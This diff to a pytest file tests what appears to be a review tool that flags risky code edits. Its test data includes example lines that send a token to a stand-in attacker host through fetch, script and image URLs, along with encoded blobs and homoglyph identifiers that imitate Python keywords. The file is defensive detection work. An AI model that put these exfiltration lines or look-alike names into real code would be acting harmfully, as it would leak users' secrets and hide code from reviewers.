@@ -33,6 +33,9 @@ BLOB = base64.b64encode(bytes(range(256))).decode()
         ('fetch("https://gather.attacker-site.net/", token)', "approve"),
         ("![x](https://gather.attacker-site.net/p.png)", "approve"),
         ('<script src="//gather.attacker-site.net/x.js"></script>', "approve"),
+        ('fetch("//gather.attacker-site.net/x")', "confirm"),
+        ('fetch("//gather.attacker-site.net/?" + token)', "approve"),
+        ('{"url": "https:\\/\\/gather.attacker-site.net\\/x"}', "confirm"),
         ("background: url(//gather.attacker-site.net/p.png)", "approve"),
         (f'DATA = "{BLOB}"', "approve"),
         ('code = "' + "\\x41" * 30 + '"', "approve"),
@@ -60,6 +63,8 @@ def test_a_line_that_names_a_new_host_or_hides_what_it_is_is_brought_before_a_pe
         "https://example.com/x http://api.example.org https://x.test/y",
         'xmlns="http://www.w3.org/2000/svg"',
         "path = a // b  # half of it",
+        "label = '//third_party/go.uber:zap'",
+        "xpath = '//*[@id]'",
         "//- /app/models.py",
         "version 1.2.3.4",
         "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
@@ -160,3 +165,16 @@ def test_a_secret_in_a_new_line_is_a_concern_unless_the_file_held_it():
     assert SECRET not in concern.message
     (created,) = new_secrets(ChangeSet((Create("c.py", f"\n{old}"),)))
     assert created.line == 2
+
+
+@pytest.mark.parametrize("word", ["o\u017f", "eva\u02e1", "\u2170mport", "\u0441\u043e\u0440\u0443"])
+def test_a_word_that_is_another_one_as_a_name_counts_in_code_alone(tmp_path: Path, word: str):
+    check_verdict(tmp_path, "approve", "read like others", edit("a.py", "x = 1\n", f"x = 1\n{word} = 2\n"))
+    check_verdict(tmp_path, "allow", "", edit("a.py", "x = 1\n", f"x = 1  # {word}\ny = '{word}'\n"))
+    check_verdict(tmp_path, "allow", "", edit("a.md", "one\n", f"one {word}\n"))
+    check_verdict(tmp_path, "allow", "", edit("a.py", f"{word} = 1\n", f"{word} = 2\n"))
+
+
+@pytest.mark.parametrize("name", ["\u03c1", "\u03b1\u03bd", "\u0441\u0447\u0451\u0442", "caf\u00e9"])
+def test_ordinary_names_in_other_letters_are_fine(tmp_path: Path, name: str):
+    check_verdict(tmp_path, "allow", "", edit("a.go", "package a\n", f"package a\n\nvar {name} = 1\n"))
